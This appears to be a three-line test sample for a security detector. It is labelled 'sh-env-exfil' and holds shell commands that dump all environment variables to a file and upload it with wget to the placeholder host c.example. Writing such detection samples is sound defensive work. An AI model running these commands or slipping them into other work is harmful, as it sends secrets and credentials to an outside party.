# expect: sh-env-exfil
printenv > /tmp/e.txt
wget --post-file=/tmp/e.txt https://c.example/u
